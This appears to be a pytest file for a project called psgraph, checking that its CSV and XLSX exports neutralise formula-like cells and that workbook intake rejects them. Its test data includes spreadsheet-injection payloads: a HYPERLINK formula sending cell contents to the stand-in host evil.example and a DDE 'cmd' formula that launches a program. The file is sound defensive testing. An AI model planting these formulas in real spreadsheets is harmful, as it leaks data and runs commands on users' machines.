"""Nothing psgraph writes for a spreadsheet can carry a formula, and intake refuses names that
would be one (issue 33, defect 6)."""

from __future__ import annotations

import csv
import io
import shutil

import pytest

from psgraph.build import build
from psgraph.errors import InputError
from psgraph.intake import layout
from psgraph.intake.workbook import read_workbook
from psgraph.spreadsheet import csv_cell, formula_like
from tests.conftest import FIXTURES

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"CLSPD")', "=cmd|' /C calc'!A0", "+1+1", "-1+2", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "-", "+x"]
HARMLESS = ["CLSPD de Lyon", "-2", "+33", "3.5", "-0,5", "", "a=b", "Saint-Étienne"]
WORKBOOKS = FIXTURES / "intake"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_written_as_text(text) -> None:
    assert formula_like(text) and csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_plain_numbers_are_left_alone(text) -> None:
    assert not formula_like(text) and csv_cell(text) == text


def _answer_with_formulas():
    import pyoxigraph as ox

    from psgraph.results import ResultTable

    integer = ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer")
    return ResultTable(("label", "count"), tuple((ox.Literal(text), ox.Literal("-2", datatype=integer))
                                                 for text in FORMULAS))


def test_the_csv_for_excel_carries_no_formula() -> None:
    from psgraph.downloads.spreadsheet import Headed, french_csv

    body = french_csv(_answer_with_formulas(), Headed()).decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert rows[0] == ["label", "count"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert {row[1] for row in rows[1:]} == {"-2"}  # a number stays a number


def test_the_xlsx_download_keeps_formula_like_labels_as_text(tmp_path) -> None:
    from openpyxl import load_workbook

    from psgraph.downloads.spreadsheet import Headed, xlsx

    table = _answer_with_formulas()
    (tmp_path / "answer.xlsx").write_bytes(xlsx(table, {}, Headed(), "answer"))
    sheet = load_workbook(tmp_path / "answer.xlsx")["answer"]
    cells = [sheet.cell(row, 1) for row in range(2, 2 + len(FORMULAS))]
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in FORMULAS]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert sheet.cell(2, 2).value == -2 and sheet.cell(2, 2).data_type == "n"


def test_an_xlsx_export_keeps_formula_like_names_as_text(mini_project, tmp_path) -> None:
    """openpyxl stores any text beginning with '=' as a formula: the export marks such cells as
    text with Excel's quote prefix, and they read back as the same text."""
    from openpyxl import load_workbook

    from psgraph.intake.export import Exported, xlsx
    from psgraph.intake.reconcile import Reconciler
    from psgraph.store import open_store

    project = mini_project()
    build(project)
    exported = Exported()
    exported.rows["bodies"] = [{"id": f"b{i}", "name_en": text, "name_fr": "nom"} for i, text in enumerate(FORMULAS)]
    (tmp_path / "bodies.xlsx").write_bytes(xlsx(exported, Reconciler.from_store(open_store(project))))
    sheet = load_workbook(tmp_path / "bodies.xlsx")["bodies"]
    column = [c.name for c in layout.BODIES.columns].index("name_en") + 1
    cells = [sheet.cell(row, column) for row in range(2, 2 + len(FORMULAS))]
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in FORMULAS]  # XML reads CR as LF
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert sheet.cell(2, column + 1).value == "nom" and not sheet.cell(2, column + 1).quotePrefix


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_intake_refuses_a_formula_like_name_with_its_sheet_row_and_column(tmp_path, kind) -> None:
    folder = tmp_path / "book"
    shutil.copytree(WORKBOOKS / "valid", folder)
    rows = list(csv.reader((folder / "bodies.csv").open(encoding="utf-8")))
    position = rows[0].index("name_en")
    rows[2][position] = '=HYPERLINK("http://evil.example","CLSPD")'
    with (folder / "bodies.csv").open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    target = folder
    if kind == "xlsx":
        from openpyxl import Workbook

        book = Workbook()
        book.remove(book.active)
        for sheet in layout.SHEETS:
            if not (folder / f"{sheet.name}.csv").exists():
                continue
            page = book.create_sheet(sheet.name)
            for row in csv.reader((folder / f"{sheet.name}.csv").open(encoding="utf-8")):
                page.append(row)
                for cell in page[page.max_row]:
                    cell.data_type = "s"  # typed as text, as a spreadsheet keeps a name that begins with '
        target = tmp_path / "councils.xlsx"
        book.save(target)
    with pytest.raises(InputError) as refused:
        read_workbook(target)
    where = "councils.xlsx" if kind == "xlsx" else "bodies.csv"
    assert str(refused.value).startswith(f"{where}, sheet bodies, row 3, column name_en: "
                                         "'=HYPERLINK(\"http://evil.example\",\"CLSPD\")' begins with '='")
